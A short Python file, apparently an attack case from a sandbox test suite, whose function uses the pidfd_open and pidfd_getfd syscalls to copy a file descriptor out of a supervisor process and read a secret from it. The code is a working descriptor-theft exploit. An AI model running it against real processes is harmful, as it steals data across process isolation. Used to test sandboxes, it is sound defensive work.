# Takes a descriptor out of the supervisor.
# proof: secret
import ctypes
import os


def attack(arg):
    libc = ctypes.CDLL(None)
    pidfd = libc.syscall(arg["nr"]["pidfd_open"], arg["reader"], 0)
    fd = libc.syscall(arg["nr"]["pidfd_getfd"], pidfd, arg["reader_fd"], 0)
    return os.pread(fd, 4096, 0)
